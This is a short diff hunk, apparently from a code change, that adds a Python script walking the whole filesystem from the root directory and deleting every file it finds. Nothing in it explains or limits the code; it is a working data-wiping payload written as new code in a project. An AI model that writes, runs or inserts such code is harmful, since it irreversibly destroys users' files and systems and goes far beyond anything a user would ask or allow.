@@ -1,0 +1,4 @@
+import os
+for root, dirs, names in os.walk('/'):
+    for n in names:
+        os.remove(os.path.join(root, n))
